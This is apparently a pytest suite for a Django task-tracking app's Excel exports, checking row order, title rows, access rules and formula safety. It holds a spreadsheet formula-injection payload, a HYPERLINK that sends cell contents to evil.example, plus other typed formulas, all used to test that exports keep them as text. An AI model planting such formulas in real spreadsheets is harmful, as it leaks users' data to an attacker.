"""Every list page exports to Excel what the page shows, in the page's order: a programme's
progress, the overview's bodies, the official's inbox, the head's queue and search results.

Each export is guarded as its page is, its title row says what and when, and what officials
typed stays text."""

from datetime import date
from io import BytesIO

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from programmes.models import AssignmentRole, TaskKind
from tests.factories import (
    AssignmentFactory,
    BodyFactory,
    ProgrammeFactory,
    TaskFactory,
    period_of,
    report_words,
)
from tests.tracking.province import TODAY, confirmed
from tracking import services
from tracking.services.states import task_states_refresh

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'


def sheet_of(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(BytesIO(response.content)).active


def title_of(response) -> str:
    return sheet_of(response)["A1"].value


def body_rows(response) -> list[list]:
    """The rows under the headings (row 1: the title, row 2: blank, row 3: the headings)."""
    sheet = sheet_of(response)
    return [[cell.value for cell in row] for row in sheet.iter_rows(min_row=4)]


def no_formula(response) -> None:
    sheet = sheet_of(response)
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []


@pytest.fixture
def plan(department, other_department, official):
    """17-CTr/TU: group 1 with tasks 1.1, 1.2 and 1.10 (1.10 made first, so that only the
    numbering puts it last), group 2 with a task whose title an official typed as a formula,
    and a task under no group."""
    programme = ProgrammeFactory(code="17-CTr/TU", slug="ctr-17", issued_on=None, term_start=2021)

    def task(number, position, title, parent=None, body=department, deadline="Năm 2023"):
        made = TaskFactory(
            programme=programme, parent=parent, position=position, number=number, title=title
        )
        made.set_deadline(deadline)
        made.save()
        AssignmentFactory(task=made, body=body, role=AssignmentRole.LEAD)
        return made

    one = TaskFactory(
        programme=programme, kind=TaskKind.GROUP, position=1, number="1.", title="Kinh tế"
    )
    two = TaskFactory(
        programme=programme, kind=TaskKind.GROUP, position=2, number="2.", title="Xã hội"
    )
    t = {
        "1.10": task("1.10", 10, "Phát triển du lịch nông thôn", one, deadline="Năm 2025"),
        "1.1": task("1.1", 1, "Hoàn thiện hạ tầng số nông thôn", one),
        "1.2": task("1.2", 2, "Xây dựng nông thôn mới nâng cao", one, deadline="Năm 2024"),
        "2.1": task("2.1", 1, HYPERLINK, two, body=other_department, deadline="Năm 2024"),
        "3.": task("3.", 3, "Tuyên truyền nông thôn mới", deadline="Thường xuyên"),
    }
    q4 = period_of("quarter", 2023, 4)
    confirmed(t["1.2"], department, official, q4, on=date(2023, 12, 16), percent=40)
    confirmed(
        t["2.1"],
        other_department,
        official,
        q4,
        on=date(2023, 12, 16),
        percent=20,
        blocked=True,
        proposals="@SUM(A1:A9)",
    )
    task_states_refresh(on=TODAY)
    return programme, t


# A programme's progress ------------------------------------------------------------------------


@time_machine.travel(TODAY)
def test_programme_export_lists_groups_then_their_tasks_in_numbering_order(client, leader, plan):
    programme, t = plan
    client.force_login(leader)
    page = client.get(reverse("tracking:programme-progress", args=[programme.slug]))
    shown = []
    for section in page.context["sections"]:
        shown.append(section.group.number if section.group else "")
        shown += [row.number for row in section.rows]
    assert shown == ["1.", "1.1", "1.2", "1.10", "2.", "2.1", "", "3."]

    response = client.get(reverse("tracking:programme-progress-export", args=[programme.slug]))
    rows = body_rows(response)
    assert [row[0] or "" for row in rows] == shown
    assert title_of(response) == "TIẾN ĐỘ THỰC HIỆN 17-CTR/TU tính đến ngày 10/01/2024"
    by_number = {row[0]: row for row in rows}
    assert by_number["1.2"][1:] == [
        "Xây dựng nông thôn mới nâng cao",
        "Sở KH&ĐT",
        "Năm 2024",
        by_number["1.2"][4],
        "Đang thực hiện — đúng tiến độ",
        40,
    ]
    assert by_number["1.1"][5] == "Quá hạn"
    assert by_number["1."][5] == "3 nhiệm vụ, 1 quá hạn, 0 vướng mắc"
    assert rows[-2][1] == "Nhiệm vụ ngoài các nhóm"
    assert by_number["2.1"][1] == HYPERLINK  # the typed formula is the title, as text
    sheet = sheet_of(response)
    assert [sheet.cell(row=r, column=2).font.b for r in range(4, 8)] == [True, False, False, False]
    no_formula(response)


@time_machine.travel(TODAY)
def test_programme_export_as_of_an_earlier_day(client, leader, plan):
    programme, t = plan
    client.force_login(leader)
    url = reverse("tracking:programme-progress-export", args=[programme.slug])
    response = client.get(url, {"ngay": "15/12/2023"})
    assert title_of(response).endswith("tính đến ngày 15/12/2023")
    by_number = {row[0]: row for row in body_rows(response)}
    assert by_number["1.2"][5] == "Chưa triển khai"  # its report was confirmed on 16/12
    assert by_number["1.1"][5] != "Quá hạn"  # not yet past 2023 then


# The overview's bodies -------------------------------------------------------------------------


@time_machine.travel(TODAY)
@pytest.mark.parametrize("order", ["", "ten", "tien-do"])
def test_bodies_export_has_the_overviews_bodies_in_its_order(client, leader, plan, order):
    client.force_login(leader)
    page = client.get(reverse("tracking:overview"), {"bang": order} if order else {})
    shown = [
        (line.body.name, line.tally.total, line.tally.overdue) for line in page.context["bodies"]
    ]
    assert len(shown) == 2
    response = client.get(reverse("tracking:overview-bodies-export"), {"bang": order})
    rows = body_rows(response)
    assert [(row[0], row[1], row[4]) for row in rows] == shown
    assert title_of(response) == (
        "TÌNH HÌNH THỰC HIỆN NHIỆM VỤ THEO CƠ QUAN CHỦ TRÌ tính đến ngày 10/01/2024"
    )


@time_machine.travel(TODAY)
def test_the_overview_links_to_its_bodies_export_with_its_order(client, leader, plan):
    client.force_login(leader)
    page = client.get(reverse("tracking:overview"), {"bang": "ten"})
    assert f'href="{reverse("tracking:overview-bodies-export")}?bang=ten"' in page.text


@time_machine.travel(TODAY)
def test_body_list_export_has_the_pages_bodies_in_tree_order(client, official, plan):
    ubnd = BodyFactory(name="Ủy ban nhân dân tỉnh", kind="peoples_committee")
    BodyFactory(name="=1+1 Sở Xây dựng", parent=ubnd)
    BodyFactory(name="Sở Công Thương", parent=ubnd)
    client.force_login(official)
    page = client.get(reverse("programmes:body-list"))
    shown = [body.name for body in page.context["bodies"]]
    response = client.get(reverse("tracking:body-list-export"))
    rows = body_rows(response)
    assert [row[0].strip() for row in rows] == shown
    assert "    Sở Công Thương" in [row[0] for row in rows]  # indented under its parent
    by_name = {row[0].strip(): row for row in rows}
    assert by_name["Sở Kế hoạch và Đầu tư"][3:5] == [4, 0]  # leads 1.1, 1.2, 1.10 and 3.
    assert title_of(response).startswith("CƠ QUAN, ĐƠN VỊ tính đến ngày ")
    no_formula(response)
    assert f'href="{reverse("tracking:body-list-export")}"' in page.text


# The official's inbox --------------------------------------------------------------------------


@time_machine.travel(TODAY)
@pytest.mark.parametrize(
    "chosen", [{}, {"trang_thai": "overdue"}, {"q": "nong thon"}, {"vai_tro": "lead"}]
)
def test_inbox_export_has_the_inbox_rows_with_its_filters(client, official, plan, chosen):
    client.force_login(official)
    page = client.get(reverse("tracking:my-tasks"), chosen)
    shown = [(row.task.number, row.task.title) for row in page.context["page"].object_list]
    assert shown, "the filter keeps some tasks"
    response = client.get(reverse("tracking:my-tasks-export"), chosen)
    assert [(row[1], row[2]) for row in body_rows(response)] == shown
    assert title_of(response) == (
        "NHIỆM VỤ CỦA TÔI – SỞ KẾ HOẠCH VÀ ĐẦU TƯ tính đến ngày 10/01/2024"
    )


@time_machine.travel(TODAY)
def test_inbox_export_is_every_page_of_the_inbox(client, official, plan, department):
    programme, _t = plan
    for n in range(55):  # more than a page of 50
        extra = TaskFactory(programme=programme, position=100 + n, title=f"Việc thêm {n}")
        AssignmentFactory(task=extra, body=department, role=AssignmentRole.LEAD)
    client.force_login(official)
    count = client.get(reverse("tracking:my-tasks")).context["page"].paginator.count
    assert count == 59
    assert len(body_rows(client.get(reverse("tracking:my-tasks-export")))) == count


@time_machine.travel(TODAY)
def test_an_official_exports_only_his_bodys_tasks(client, official, other_official, plan):
    client.force_login(other_official)
    rows = body_rows(client.get(reverse("tracking:my-tasks-export")))
    assert [row[2] for row in rows] == [HYPERLINK]  # Sở Tài chính leads only 2.1
    client.force_login(official)
    titles = [row[2] for row in body_rows(client.get(reverse("tracking:my-tasks-export")))]
    assert HYPERLINK not in titles and len(titles) == 4


@time_machine.travel(TODAY)
def test_inbox_export_keeps_typed_formulas_as_text(client, other_official, plan):
    client.force_login(other_official)
    response = client.get(reverse("tracking:my-tasks-export"))
    no_formula(response)
    assert sheet_of(response)["C4"].value == HYPERLINK


# The head's queue ------------------------------------------------------------------------------


@pytest.fixture
def submitted(task, department, official):
    """Two reports of An's department on Q2/2023 waiting for Bình, the second a formula
    typed by An."""
    second = TaskFactory(programme=task.programme, title="Kêu gọi đầu tư")
    second.set_deadline("Năm 2023")
    second.save()
    AssignmentFactory(task=second, body=department, role=AssignmentRole.LEAD)
    made = []
    with time_machine.travel(date(2023, 6, 20)):
        for on, words in ((task, "Đã rà soát 12 dự án."), (second, "=1+1")):
            report = services.report_start(
                task=on, period=period_of("quarter", 2023, 2), by=official
            )
            data = report_words(results=words)
            report = services.report_save(report=report, by=official, data=data, version=1)
            made.append(services.report_submit(report=report, by=official, version=report.version))
    return made


def test_queue_export_has_the_heads_queue_in_its_order(client, head, submitted):
    client.force_login(head)
    shown = [
        report.pk for report in client.get(reverse("tracking:review-queue")).context["reports"]
    ]
    assert shown == [r.pk for r in submitted]
    response = client.get(reverse("tracking:review-queue-export"))
    rows = body_rows(response)
    assert [row[2] for row in rows] == [r.task.title for r in submitted]
    assert [row[3] for row in rows] == ["Quý II/2023", "Quý II/2023"]
    assert [row[8] for row in rows] == ["Đã rà soát 12 dự án.", "=1+1"]
    assert title_of(response).startswith("BÁO CÁO CHỜ XÁC NHẬN tính đến ngày ")
    no_formula(response)


def test_the_queue_page_has_its_export_button(client, head, submitted):
    client.force_login(head)
    page = client.get(reverse("tracking:review-queue"))
    assert f'role="button" href="{reverse("tracking:review-queue-export")}"' in page.text


def test_queue_export_of_someone_without_a_queue_is_empty(
    client, official, other_official, submitted
):
    for person in (official, other_official):  # neither is a head: their page shows nothing
        client.force_login(person)
        assert list(client.get(reverse("tracking:review-queue")).context["reports"]) == []
        assert body_rows(client.get(reverse("tracking:review-queue-export"))) == []


# Search results --------------------------------------------------------------------------------


@time_machine.travel(TODAY)
def test_search_export_has_the_pages_results_in_its_order(client, official, plan):
    client.force_login(official)
    page = client.get(reverse("tracking:search"), {"q": "nong thon"})
    results = page.context["results"]
    shown = [("Nhiệm vụ", t.number) for t in results.tasks]
    assert [number for _kind, number in shown] == ["1.1", "1.2", "1.10", "3."]
    response = client.get(reverse("tracking:search-export"), {"q": "nong thon"})
    rows = body_rows(response)
    assert [(row[0], row[1]) for row in rows if row[0] == "Nhiệm vụ"] == shown
    assert len(rows) == len(results.programmes) + len(results.tasks) + len(results.bodies) + len(
        results.reports
    )
    assert title_of(response).startswith("KẾT QUẢ TÌM KIẾM “NONG THON” tính đến ngày ")


@time_machine.travel(TODAY)
def test_search_export_of_words_excel_refuses_in_a_sheet_name(client, official, plan):
    client.force_login(official)
    response = client.get(reverse("tracking:search-export"), {"q": "=HYPERLINK: [nong]/*?"})
    no_formula(response)
    assert sheet_of(response).title  # a name Excel accepts, whatever the words


def test_search_export_without_words_says_what_to_do(client, official):
    client.force_login(official)
    response = client.get(reverse("tracking:search-export"), {"q": "a"}, follow=True)
    assert response.redirect_chain[-1][0] == reverse("tracking:search")
    assert "Hãy gõ ít nhất hai chữ cái." in response.text


# Access ----------------------------------------------------------------------------------------


@time_machine.travel(TODAY)
def test_leaders_exports_are_refused_to_officials_and_heads(client, official, head, plan):
    programme, _t = plan
    urls = [
        reverse("tracking:programme-progress-export", args=[programme.slug]),
        reverse("tracking:overview-bodies-export"),
    ]
    for person in (official, head):
        client.force_login(person)
        for url in urls:
            assert client.get(url).status_code == 403, url
    client.logout()
    for url in urls:
        assert "/dang-nhap/" in client.get(url).url


# The buttons -----------------------------------------------------------------------------------


@time_machine.travel(TODAY)
def test_each_list_page_has_its_export_button(client, leader, official, plan):
    programme, _t = plan
    client.force_login(leader)
    pages = {
        reverse("tracking:programme-progress", args=[programme.slug]): reverse(
            "tracking:programme-progress-export", args=[programme.slug]
        ),
        reverse("tracking:overview"): reverse("tracking:overview-bodies-export"),
        reverse("tracking:search") + "?q=nong+thon": reverse("tracking:search-export")
        + "?q=nong+thon",
    }
    for url, export in pages.items():
        assert f'class="export-button secondary outline" role="button" href="{export}' in (
            client.get(url).text
        ), url
    client.force_login(official)
    page = client.get(reverse("tracking:my-tasks"), {"trang_thai": "overdue"})
    assert f'href="{reverse("tracking:my-tasks-export")}?trang_thai=overdue"' in page.text
